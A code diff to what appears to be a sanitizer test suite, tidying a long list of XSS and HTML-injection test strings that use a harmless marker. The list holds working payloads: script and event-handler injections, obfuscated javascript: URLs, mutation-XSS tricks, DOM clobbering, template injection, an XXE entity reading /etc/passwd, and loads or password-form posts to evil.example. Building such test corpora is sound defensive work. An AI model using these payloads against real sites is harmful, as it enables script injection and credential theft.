@@ -12,7 +12,7 @@ FIRE = f"document.title='{MARK}';alert('{MARK}')"
 _F = html.escape(FIRE, quote=True)
 
 DRESSES: tuple[str, ...] = (
-    f"<script>{FIRE}</script>", f"<ScRiPt >{FIRE}</sCrIpT >", f"<script src=//evil.example/x.js></script>", f"<script/src=data:,{MARK}></script>",
+    f"<script>{FIRE}</script>", f"<ScRiPt >{FIRE}</sCrIpT >", "<script src=//evil.example/x.js></script>", f"<script/src=data:,{MARK}></script>",
     f"<script type=module>{FIRE}</script>", f"<script type=text/babel>{FIRE}</script>", f"<svg><script>{FIRE}</script></svg>", f"<svg/onload=\"{_F}\">",
     f"<svg><animate onbegin=\"{_F}\" attributeName=x dur=1s>", f"<svg><a xlink:href=\"javascript:{_F}\"><text x=20 y=20>click</text></a></svg>",
     f"<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>{MARK}</script></svg>#x\"></svg>",
@@ -29,14 +29,14 @@ DRESSES: tuple[str, ...] = (
     f"<link rel=import href=http://evil.example/{MARK}.html>", f"<link rel=preload href=http://evil.example/{MARK} as=script>", f"<style>@import 'http://evil.example/{MARK}.css';</style>",
     f"<style>body{{background:url(http://evil.example/{MARK})}}</style>", f"<p style=\"background:url(javascript:{MARK})\">styled</p>", f"<p style=\"width:expression({MARK})\">styled</p>",
     f"<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">{MARK} overlay</p>", f"<meta http-equiv=refresh content=\"0;url=javascript:{_F}\">",
-    f"<meta http-equiv=refresh content=\"0;url=http://evil.example/{MARK}\">", f"<meta http-equiv=Content-Security-Policy content=\"script-src *\">", f"<base href=http://evil.example/>",
+    f"<meta http-equiv=refresh content=\"0;url=http://evil.example/{MARK}\">", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<base href=http://evil.example/>",
     f"<base href=\"javascript:/a/-{MARK}//\">", f"<a href=\"javascript:{_F}\">click</a>", f"<a href=\"JaVaScRiPt:{_F}\">click</a>", f"<a href=\"java&#x0A;script:{_F}\">click</a>",
     f"<a href=\"&#1;javascript:{_F}\">click</a>", f"<a href=\"&#x6A;&#x61;vascript:{_F}\">click</a>", f"<a href=\" \tjavascript:{_F}\">click</a>", f"<a href=\"javascript&colon;{_F}\">click</a>",
-    f"<a href=\"vbscript:{MARK}\">click</a>", f"<a href=\"data:text/html,<script>{MARK}</script>\">click</a>", f"<a href=\"data:text/html;base64,PHNjcmlwdD4=\">click</a>",
-    f"<a href=\"file:///etc/passwd\">click</a>", f"<a href=\"blob:http://x/{MARK}\">click</a>", f"<a href=\"view-source:javascript:{MARK}\">click</a>", f"<a href=\"intent://x#{MARK}\">click</a>",
+    f"<a href=\"vbscript:{MARK}\">click</a>", f"<a href=\"data:text/html,<script>{MARK}</script>\">click</a>", "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">click</a>",
+    "<a href=\"file:///etc/passwd\">click</a>", f"<a href=\"blob:http://x/{MARK}\">click</a>", f"<a href=\"view-source:javascript:{MARK}\">click</a>", f"<a href=\"intent://x#{MARK}\">click</a>",
     f"<a href=\"//evil.example/{MARK}\">click</a>", f"<a href=\"\\\\evil.example\\{MARK}\">click</a>", f"<a href=\"http://x\" onclick=\"{_F}\">click</a>", f"<a href=\"http://evil.example/\" ping=\"http://evil.example/{MARK}\">click</a>",
     f"<a href='http://example.com/\" onmouseover=\"{MARK}'>click</a>", f"<a href=\"http://example.com/)[x](javascript:{MARK}\">click</a>", f"<a href=\"http://example.com/> <script>{MARK}</script>\">click</a>",
-    f"<a href=\"http://[::1\">click</a>", f"<a href=\"http://user:pass@evil.example:99999999/{MARK}\">click</a>", f"<a href=\"http://\u0430pple.com/\">click</a>", f"<a href=\"http://xn--pple-43d.com/\">click</a>",
+    "<a href=\"http://[::1\">click</a>", f"<a href=\"http://user:pass@evil.example:99999999/{MARK}\">click</a>", "<a href=\"http://\u0430pple.com/\">click</a>", "<a href=\"http://xn--pple-43d.com/\">click</a>",
     f"<form action=\"javascript:{_F}\"><input type=submit></form>", f"<form action=http://evil.example/{MARK}><input name=password><button>log in</button></form>", f"<button formaction=\"javascript:{_F}\">go</button>",
     f"<input onfocus=\"{_F}\" autofocus>", f"<select onfocus=\"{_F}\" autofocus><option>x</select>", f"<textarea onfocus=\"{_F}\" autofocus></textarea>", f"<details ontoggle=\"{_F}\" open><summary>s</summary>d</details>",
     f"<marquee onstart=\"{_F}\">m</marquee>", f"<isindex action=javascript:{MARK}>", f"<keygen onfocus=\"{_F}\" autofocus>", f"<dialog open onclose=\"{_F}\">d</dialog>", f"<div onpointerover=\"{_F}\">d</div>",
@@ -44,10 +44,10 @@ DRESSES: tuple[str, ...] = (
     f"<noscript><p title=\"</noscript><img src=x onerror='{_F}'>\">n</p></noscript>", f"<noscript><style></noscript><img src=x onerror=\"{_F}\">", f"<xmp><p title=\"</xmp><img src=x onerror='{_F}'>\"></xmp>",
     f"<plaintext><script>{FIRE}</script>", f"<listing>&lt;img src=x onerror={MARK}&gt;</listing>", f"<noembed><p title=\"</noembed><svg onload='{_F}'>\"></noembed>", f"<noframes><p title=\"</noframes><svg onload='{_F}'>\"></noframes>",
     f"<title><p title=\"</title><svg onload='{_F}'>\"></title>", f"<textarea><p title=\"</textarea><svg onload='{_F}'>\"></textarea>", f"<!--<img src=\"--><img src=x onerror=\"{_F}\">//\">", f"<!--[if gte IE 4]><script>{FIRE}</script><![endif]-->",
-    f"<![CDATA[<script>{FIRE}</script>]]>", f"<?xml-stylesheet href=\"javascript:{MARK}\"?>", f"<?php system('{MARK}'); ?>", f"<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;", f"<div id=defaultView name=cookie>clobber</div>",
+    f"<![CDATA[<script>{FIRE}</script>]]>", f"<?xml-stylesheet href=\"javascript:{MARK}\"?>", f"<?php system('{MARK}'); ?>", "<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;", "<div id=defaultView name=cookie>clobber</div>",
     f"<form id=x><input id=y name=attributes></form><a id=location href=javascript:{MARK}>c</a>", f"<p>&lt;script&gt;{_F}&lt;/script&gt;</p>", f"<p>&amp;lt;script&amp;gt;{MARK}</p>", f"<p>&#60;img src=x onerror={MARK}&#62;</p>",
     f"<<script>{FIRE}//<</script>", f"<scr<script>ipt>{FIRE}</scr</script>ipt>", f"<script\x00>{FIRE}</script>", f"<scr\x00ipt>{FIRE}</script>", f"<\x00script>{FIRE}</script>", f"<p title='\"><script>{FIRE}</script>'>t</p>",
-    f"<p class=\"claim\" id=main data-generated>{MARK} ours?</p>", f"<custom-element onclick=\"{_F}\">c</custom-element>", f"<is-land on:visible><script>{FIRE}</script></is-land>", f"<portal src=javascript:{MARK}></portal>", f"<fencedframe></fencedframe>",
+    f"<p class=\"claim\" id=main data-generated>{MARK} ours?</p>", f"<custom-element onclick=\"{_F}\">c</custom-element>", f"<is-land on:visible><script>{FIRE}</script></is-land>", f"<portal src=javascript:{MARK}></portal>", "<fencedframe></fencedframe>",
     f"<div style=\"behavior:url(#default#time2)\" onbegin=\"{_F}\">t</div>", f"<xss style=\"xss:expression({MARK})\">x</xss>", f"<table background=javascript:{MARK}><tr><td background=\"javascript:{MARK}\">t</table>", f"<bgsound src=javascript:{MARK}>",
     f"<layer src=http://evil.example/{MARK}></layer>", f"<p>{{{{constructor.constructor('{MARK}')()}}}}</p>", f"<p>${{{MARK}}} #{{{MARK}}} {{% {MARK} %}}</p>", f"<p ng-app>{{{{$eval.constructor('{MARK}')()}}}}</p>", f"<script type=application/ld+json>{{\"x\": \"</script><script>{FIRE}</script>\"}}</script>",
 )  # fmt: skip
@@ -95,8 +95,7 @@ def cases(words: Words) -> Iterator[Case]:
 
 def _unclosed(dress: str) -> bool:
     return (
-        "<style" in dress
-        and "</style>" not in dress
+        ("<style" in dress and "</style>" not in dress)
         or "<math><mtext><table" in dress
         or "<!--<img" in dress
         or "<select" in dress
